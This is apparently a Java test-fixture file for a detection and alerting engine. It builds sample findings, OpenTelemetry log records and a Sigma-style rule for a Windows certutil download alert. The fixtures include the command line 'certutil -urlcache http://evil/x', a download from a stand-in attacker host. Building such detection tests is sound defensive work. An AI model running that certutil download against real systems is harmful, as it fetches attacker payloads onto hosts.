package io.sigline.alerting.alert;

import io.opentelemetry.proto.common.v1.AnyValue;
import io.opentelemetry.proto.common.v1.InstrumentationScope;
import io.opentelemetry.proto.common.v1.KeyValue;
import io.opentelemetry.proto.common.v1.KeyValueList;
import io.opentelemetry.proto.logs.v1.LogRecord;
import io.opentelemetry.proto.logs.v1.ResourceLogs;
import io.opentelemetry.proto.logs.v1.ScopeLogs;
import io.opentelemetry.proto.logs.v1.SeverityNumber;
import io.opentelemetry.proto.resource.v1.Resource;
import io.sigline.engine.match.Match;
import io.sigline.engine.rule.Condition;
import io.sigline.engine.rule.ContentVersion;
import io.sigline.engine.rule.Detection;
import io.sigline.engine.rule.LogSource;
import io.sigline.engine.rule.Rule;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Findings for tests: a certutil download on a Windows host. */
public final class Findings {
  /** 2026-11-21T05:10:11.123456789Z. */
  public static final long TIME = 1_795_237_811_123_456_789L;

  private Findings() {}

  /** A finding of the usual rule about this host. */
  public static Finding of(String hitId, String host) {
    return of(hitId, host, rule("r1", Rule.Level.MEDIUM));
  }

  /** A finding of this rule about this host. */
  public static Finding of(String hitId, String host, Rule rule) {
    return finding(hitId, match(rule, Map.of("host", host)), record("certutil -urlcache").build());
  }

  /** A finding with this match and record. */
  public static Finding finding(String hitId, Match match, LogRecord record) {
    return new Finding(hitId, match, TIME, TIME + 2_000_000_000L, evidence(record));
  }

  /** A match of this rule, with the fields of a process creation. */
  public static Match match(Rule rule, Map<String, String> entity) {
    Map<String, List<String>> fields = new LinkedHashMap<>();
    fields.put("Image", List.of("C:\\Windows\\certutil.exe"));
    fields.put("CommandLine", List.of("certutil -urlcache http://evil/x"));
    return new Match(
        rule,
        new LogSource("process_creation", "windows", null),
        List.of("selection"),
        fields,
        entity);
  }

  /** The record on its resource. */
  public static ResourceLogs evidence(LogRecord record) {
    return ResourceLogs.newBuilder()
        .setResource(
            Resource.newBuilder()
                .addAttributes(text("service.name", "winlog"))
                .addAttributes(text("host.name", "ws01")))
        .addScopeLogs(
            ScopeLogs.newBuilder()
                .setScope(InstrumentationScope.newBuilder().setName("receiver"))
                .addLogRecords(record))
        .build();
  }

  /** A record with a map for a body. */
  public static LogRecord.Builder record(String commandLine) {
    return LogRecord.newBuilder()
        .setTimeUnixNano(TIME)
        .setSeverityText("Information")
        .setSeverityNumber(SeverityNumber.SEVERITY_NUMBER_INFO)
        .addAttributes(text("log.file.path", "/var/log/x"))
        .setBody(
            AnyValue.newBuilder()
                .setKvlistValue(
                    KeyValueList.newBuilder()
                        .addValues(text("channel", "Security"))
                        .addValues(text("CommandLine", commandLine))));
  }

  /** An attribute. */
  public static KeyValue text(String name, String value) {
    return KeyValue.newBuilder()
        .setKey(name)
        .setValue(AnyValue.newBuilder().setStringValue(value))
        .build();
  }

  /** A rule with this id and level. */
  public static Rule rule(String id, Rule.@Nullable Level level) {
    return rule(id, level, "Download by certutil", "By <b>someone</b>\nline two");
  }

  /** A rule with this title and description. */
  public static Rule rule(String id, Rule.@Nullable Level level, String title, String description) {
    return new Rule(
        id,
        title,
        id,
        null,
        Rule.Status.STABLE,
        level,
        description,
        "DRL 1.1",
        "Jane Doe, Max",
        "2026-01-02",
        null,
        List.of("https://github.com/SigmaHQ/sigma/blob/x.yml?a=1&b=2"),
        List.of("attack.command-and-control", "attack.t1105", "cve.2021-1"),
        List.of(),
        List.of("administrators"),
        List.of(),
        new LogSource("process_creation", "windows", null),
        new Detection(new LinkedHashMap<>(), new Condition.Named("selection"), "selection"),
        Map.of(),
        new Rule.Source("rules/x.yml", 1, ContentVersion.NONE));
  }
}
